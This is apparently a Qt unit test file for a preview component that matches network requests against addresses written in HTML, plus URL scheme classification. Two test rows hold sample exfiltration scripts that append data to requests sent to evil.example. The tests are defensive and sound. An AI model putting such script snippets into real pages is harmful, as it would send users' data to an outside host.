// SPDX-License-Identifier: GPL-3.0-or-later
#include "preview/WrittenAddresses.h"
#include "support/TestMain.h"

#include <QTest>

class tst_WrittenAddresses : public QObject
{
    Q_OBJECT

private slots:
    void onlyWrittenAddressesMatch_data();
    void onlyWrittenAddressesMatch();
    void networkSchemes_data();
    void networkSchemes();
};

void tst_WrittenAddresses::onlyWrittenAddressesMatch_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("request");
    QTest::addColumn<bool>("written");

    QTest::newRow("style sheet") << "<link rel=stylesheet href=\"https://cdn.example.com/lib.css\">"
                                 << "https://cdn.example.com/lib.css" << true;
    QTest::newRow("scheme-relative, https") << "<script src='//cdn.example.com/a.js'></script>"
                                            << "https://cdn.example.com/a.js" << true;
    QTest::newRow("scheme-relative, http") << "<script src='//cdn.example.com/a.js'></script>"
                                           << "http://cdn.example.com/a.js" << true;
    QTest::newRow("host case") << "<img src=HTTPS://CDN.Example.com/a.png>"
                               << "https://cdn.example.com/a.png" << true;
    QTest::newRow("escaped ampersand") << "<img src=\"https://x.org/i?a=1&amp;b=2\">"
                                       << "https://x.org/i?a=1&b=2" << true;
    QTest::newRow("default port") << "<img src='https://x.org:443/i.png'>"
                                  << "https://x.org/i.png" << true;
    QTest::newRow("empty path") << "<iframe src=\"https://x.org\"></iframe>"
                                << "https://x.org/" << true;
    QTest::newRow("fragment written") << "<a href='https://x.org/p#top'>"
                                      << "https://x.org/p#top" << true;
    QTest::newRow("fragment not written") << "<a href='https://x.org/p'>"
                                          << "https://x.org/p#top" << false;
    QTest::newRow("style sheet url()") << "<p style=\"background:url(https://img.example/bg.png)\">"
                                       << "https://img.example/bg.png" << true;
    QTest::newRow("query a script appends") << "<script>new Image().src = 'https://evil.example/?d=' + data;</script>"
                                            << "https://evil.example/?d=secret" << false;
    QTest::newRow("path a script appends") << "<script>fetch('https://evil.example/' + data)</script>"
                                           << "https://evil.example/secret" << false;
    QTest::newRow("other scheme") << "<img src='http://x.org/i.png'>"
                                  << "ws://x.org/i.png" << false;
    QTest::newRow("other port") << "<img src='http://x.org/i.png'>"
                                << "http://x.org:8080/i.png" << false;
    QTest::newRow("other host") << "<img src='http://x.org/i.png'>"
                                << "http://x.org.evil.example/i.png" << false;
    QTest::newRow("empty text") << QString() << "https://x.org/" << false;
    QTest::newRow("no address") << "<p>a // b // c</p>"
                                << "http://b/" << false;
}

void tst_WrittenAddresses::onlyWrittenAddressesMatch()
{
    QFETCH(QString, text);
    QFETCH(QString, request);
    QFETCH(bool, written);

    QCOMPARE(WrittenAddresses(text).contains(QUrl(request)), written);
}

void tst_WrittenAddresses::networkSchemes_data()
{
    QTest::addColumn<QString>("url");
    QTest::addColumn<bool>("network");

    QTest::newRow("file") << "file:///tmp/a.png" << false;
    QTest::newRow("data") << "data:text/html,<p>x" << false;
    QTest::newRow("blob") << "blob:null/1234" << false;
    QTest::newRow("about") << "about:blank" << false;
    QTest::newRow("nothing yet") << QString() << false;
    QTest::newRow("the previews' local address") << "http://zorvane-local.invalid/tmp/a%20b.png" << false;
    QTest::newRow("the local host on another port") << "http://zorvane-local.invalid:8080/tmp/a.png" << true;
    QTest::newRow("http") << "http://x.org/" << true;
    QTest::newRow("https") << "https://x.org/" << true;
    QTest::newRow("ws") << "ws://x.org/" << true;
    QTest::newRow("ftp") << "ftp://x.org/f" << true;
    QTest::newRow("unknown scheme") << "gopher://x.org/" << true;
}

void tst_WrittenAddresses::networkSchemes()
{
    QFETCH(QString, url);
    QFETCH(bool, network);

    QCOMPARE(WrittenAddresses::isNetwork(QUrl(url)), network);
}

ZORVANE_TEST(tst_WrittenAddresses)
#include "tst_WrittenAddresses.moc"
